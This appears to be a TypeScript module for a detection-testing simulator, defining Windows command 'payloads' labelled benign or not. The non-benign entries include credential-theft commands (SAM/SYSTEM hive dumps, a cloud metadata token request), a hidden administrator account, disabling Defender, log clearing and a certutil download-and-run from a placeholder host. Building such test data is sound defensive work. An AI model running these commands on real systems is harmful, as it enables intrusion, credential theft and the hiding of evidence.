import { lasting, windows, windowsVerbatim } from './command.ts';
import type { Payload } from './payload.ts';

const second = 1000;
const net = (rest: string) =>
  windows('net.exe', rest, [
    windowsVerbatim('C:\\Windows\\System32\\net1.exe', `C:\\Windows\\system32\\net1 ${rest}`),
  ]);

/** Payload classes on Windows. An empty `commands` runs inside PowerShell: it leaves no child process at all. */
export const windowsPayloads: Readonly<Record<string, Payload>> = {
  discovery: {
    lines: ['whoami /all', 'ipconfig /all', 'net user', 'nltest /domain_trusts'],
    commands: [
      windows('whoami.exe', '/all'),
      windows('ipconfig.exe', '/all'),
      net('user'),
      windows('nltest.exe', '/domain_trusts'),
    ],
    lasts: [2 * second, 9 * second],
    benign: false,
  },
  'service-list': {
    lines: ['Get-Service'],
    commands: [],
    lasts: [1 * second, 4 * second],
    benign: false,
  },
  'metadata-token': {
    lines: [
      "$uri = 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net'",
      "Invoke-RestMethod -Uri $uri -Headers @{ Metadata = 'true' }",
    ],
    commands: [],
    lasts: [1 * second, 5 * second],
    benign: false,
  },
  'local-admin': {
    lines: ['net user svc-support Example-Only-1 /add', 'net localgroup administrators svc-support /add'],
    commands: [
      net('user svc-support Example-Only-1 /add'),
      net('localgroup administrators svc-support /add'),
    ],
    lasts: [2 * second, 6 * second],
    benign: false,
  },
  'local-admin-in-process': {
    lines: [
      'New-LocalUser -Name svc-support -NoPassword; Add-LocalGroupMember -Group Administrators -Member svc-support',
    ],
    commands: [],
    lasts: [1 * second, 4 * second],
    benign: false,
  },
  'remote-tool': {
    lines: ['msiexec /i C:\\Windows\\Temp\\remote-support.msi /qn'],
    commands: [
      lasting(
        windows(
          'curl.exe',
          '-o C:\\Windows\\Temp\\remote-support.msi https://downloads.fabrikam.com/remote-support.msi',
        ),
        4000,
      ),
      lasting(windows('msiexec.exe', '/i C:\\Windows\\Temp\\remote-support.msi /qn'), 18_000),
    ],
    lasts: [25 * second, 60 * second],
    benign: false,
  },
  'defence-evasion': {
    lines: ['Set-MpPreference -DisableRealtimeMonitoring $true'],
    commands: [],
    lasts: [1 * second, 4 * second],
    benign: false,
  },
  'log-clearing': {
    lines: ['wevtutil cl Security', 'wevtutil cl System'],
    commands: [windows('wevtutil.exe', 'cl Security'), windows('wevtutil.exe', 'cl System')],
    lasts: [1 * second, 4 * second],
    benign: false,
  },
  'download-exec': {
    lines: [
      'certutil -urlcache -split -f https://downloads.fabrikam.com/update.bin C:\\Windows\\Temp\\update.exe',
    ],
    commands: [
      lasting(
        windows(
          'certutil.exe',
          '-urlcache -split -f https://downloads.fabrikam.com/update.bin C:\\Windows\\Temp\\update.exe',
        ),
        2500,
      ),
      windows('C:\\Windows\\Temp\\update.exe', '--once'),
    ],
    lasts: [5 * second, 20 * second],
    benign: false,
  },
  encoded: {
    lines: ['& ([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($blob))))'],
    commands: [],
    lasts: [2 * second, 15 * second],
    benign: false,
  },
  portproxy: {
    lines: [
      'netsh interface portproxy add v4tov4 listenport=3389 connectport=80 connectaddress=169.254.169.254',
    ],
    commands: [
      windows(
        'netsh.exe',
        'interface portproxy add v4tov4 listenport=3389 connectport=80 connectaddress=169.254.169.254',
      ),
    ],
    lasts: [1 * second, 4 * second],
    benign: false,
  },
  msbuild: {
    lines: ['Start-Process MSBuild.exe .\\task.xml'],
    commands: [
      windows('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe', '.\\task.xml', [
        windowsVerbatim(
          'C:\\Windows\\System32\\conhost.exe',
          '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
        ),
      ]),
    ],
    lasts: [4 * second, 20 * second],
    benign: false,
  },
  'database-copy': {
    lines: [
      'reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save',
      'reg save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save',
    ],
    commands: [
      windows('reg.exe', 'save HKLM\\SAM C:\\Windows\\Temp\\sam.save'),
      windows('reg.exe', 'save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save'),
    ],
    lasts: [2 * second, 8 * second],
    benign: false,
  },
  'nested-shell': {
    lines: ['powershell -NoProfile -EncodedCommand dwBoAG8AYQBtAGkA'],
    commands: [
      windows(
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        '-NoProfile -EncodedCommand dwBoAG8AYQBtAGkA',
        [windows('whoami.exe', '')],
      ),
    ],
    lasts: [3 * second, 9 * second],
    benign: false,
  },
  inventory: {
    lines: ['ipconfig', 'Get-HotFix'],
    commands: [windows('ipconfig.exe', '')],
    lasts: [1 * second, 6 * second],
    benign: true,
  },
  deploy: {
    lines: [
      'sc.exe stop ContosoWeb',
      'robocopy C:\\deploy\\new C:\\inetpub\\app /MIR',
      'sc.exe start ContosoWeb',
    ],
    commands: [
      windows('sc.exe', 'stop ContosoWeb'),
      lasting(windows('Robocopy.exe', 'C:\\deploy\\new C:\\inetpub\\app /MIR'), 6000),
      windows('sc.exe', 'start ContosoWeb'),
    ],
    lasts: [8 * second, 40 * second],
    benign: true,
  },
  'agent-install': {
    lines: ['msiexec /i C:\\deploy\\desktop-agent.msi /quiet'],
    commands: [lasting(windows('msiexec.exe', '/i C:\\deploy\\desktop-agent.msi /quiet'), 20_000)],
    lasts: [25 * second, 90 * second],
    benign: true,
  },
  'remote-desktop-settings': {
    lines: [
      "Get-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp'",
    ],
    commands: [],
    lasts: [1 * second, 3 * second],
    benign: true,
  },
};
